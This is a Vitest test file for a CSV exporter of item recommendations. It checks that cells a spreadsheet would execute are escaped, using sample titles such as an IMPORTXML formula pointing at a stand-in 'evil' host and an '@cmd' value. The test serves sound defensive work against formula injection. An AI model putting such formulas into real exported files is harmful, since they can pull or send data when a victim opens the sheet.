import { describe, expect, it } from 'vitest';
import { recommendationsCsv } from './recommendationsCsv';

describe('recommendationsCsv', () => {
  const titles = ['=IMPORTXML("http://evil","//a")', 'Mug, "blue"', '@cmd', 'Tea'];
  const csv = recommendationsCsv({
    user: '-u1',
    model: 'itemknn',
    method: 'occlusion',
    rows: [
      {
        item: 0,
        score: -0.5,
        reason: { en: 'Recommended mainly because you viewed "Tea".', zh: '推荐的主要原因是您浏览了“Tea”。', share: 0.6 },
      },
      { item: 1, score: 2, reason: { en: '+ because', zh: '', share: 0 } },
      { item: 2, score: 1, reason: { en: 'ok', zh: '好', share: 1 } },
    ],
    itemId: (i) => `i${i}`,
    title: (i) => titles[i],
    category: (i) => (i === 0 ? '+cat' : null),
  });
  const lines = csv.split('\r\n');

  it('has a header and one row per recommendation, ranked', () => {
    expect(lines[0]).toBe('user,model,rank,item_id,title,category,score,method,reason_en,reason_zh,reason_share');
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe('');
  });
  it('escapes every cell a spreadsheet would run, keeps numbers numeric, and quotes what needs it', () => {
    expect(lines[1]).toBe(
      `'-u1,itemknn,1,i0,"'=IMPORTXML(""http://evil"",""//a"")",'+cat,-0.5,occlusion,"Recommended mainly because you viewed ""Tea"".",推荐的主要原因是您浏览了“Tea”。,0.6`,
    );
    expect(lines[2]).toBe(`'-u1,itemknn,2,i1,"Mug, ""blue""",,2,occlusion,'+ because,,0`);
    expect(lines[3]).toBe(`'-u1,itemknn,3,i2,'@cmd,,1,occlusion,ok,好,1`);
  });
});
